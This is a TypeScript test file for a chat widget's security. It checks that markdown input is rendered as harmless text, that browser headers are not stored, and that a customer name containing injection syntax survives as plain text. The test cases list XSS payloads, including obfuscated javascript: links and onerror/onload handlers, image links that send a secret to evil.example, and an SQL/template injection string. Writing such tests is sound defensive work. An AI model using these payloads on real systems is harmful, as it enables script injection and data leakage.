import { describe, expect, test } from "bun:test";
import { type MarkdownContent, parseMarkdown } from "#domain/text/markdown.ts";
import { SQLITE } from "../../db/testing/engines.ts";
import { REQUESTED_BY } from "../../http/security/csrf.ts";
import { newSessionKey, openChat } from "../../testing/open-chat.ts";
import { startTestServer } from "../../testing/test-server.ts";
import { allRowsAsText } from "../../db/testing/all-rows-as-text.ts";

describe("text that would be more than text", () => {
  test.each([
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "![leak](https://evil.example/?q=secret)",
    "![leak][1]\n\n[1]: https://evil.example/?q=secret",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:msgbox)",
    "[click](//evil.example)",
    "[click](\\\\evil.example)",
    "[click](java\nscript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    '[click](https://a.example" onmouseover="alert(1))',
    "<a href='javascript:alert(1)'>click</a>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<https://evil.example/`<img>`>",
  ])("%p becomes words, and links that lead nowhere but by http, https or mail", (text) => {
    const hrefs = parseMarkdown(text).flatMap(linksIn);

    expect(hrefs.every((href) => /^(https?:\/\/[^\s"<>]+|mailto:[^\s"<>]+)$/i.test(href))).toBe(true);
    expect(JSON.stringify(parseMarkdown(text))).not.toMatch(/"kind":"(img|html)"/);
  });

  test("what a browser sends about itself is kept nowhere", async () => {
    await using server = await startTestServer(await SQLITE.open());
    const canary = "<b>canary-in-a-header</b>";
    const response = await fetch(`${server.origin}/trpc/session.open`, {
      method: "POST",
      headers: {
        origin: server.origin,
        "content-type": "application/json",
        "x-widget-key": server.widgetKey,
        [REQUESTED_BY.name]: REQUESTED_BY.value,
        "user-agent": canary,
        referer: `https://shop.example/?token=${encodeURIComponent(canary)}`,
        "accept-language": canary,
        "x-forwarded-for": canary,
        cookie: "other=canary-in-a-header",
      },
      body: JSON.stringify({ key: newSessionKey(), name: "Maria", email: "maria@example.com" }),
    });

    expect(response.status).toBe(200);
    expect(await allRowsAsText(server.composition.store)).not.toContain("canary");
  });

  test("marks of a query are letters of a name", async () => {
    await using server = await startTestServer(await SQLITE.open());
    const name = `Robert'); drop table session; --"$1 {{7*7}} \${7*7}`;

    const { token } = await openChat(server, name);
    const { customer } = await server.customer(token).session.current.query();

    expect(customer.name).toBe(name);
  });
});

function linksIn(piece: MarkdownContent): readonly string[] {
  if (typeof piece === "string") return [];
  const below = piece.pieces.flatMap(linksIn);
  return piece.href === null ? below : [piece.href, ...below];
}
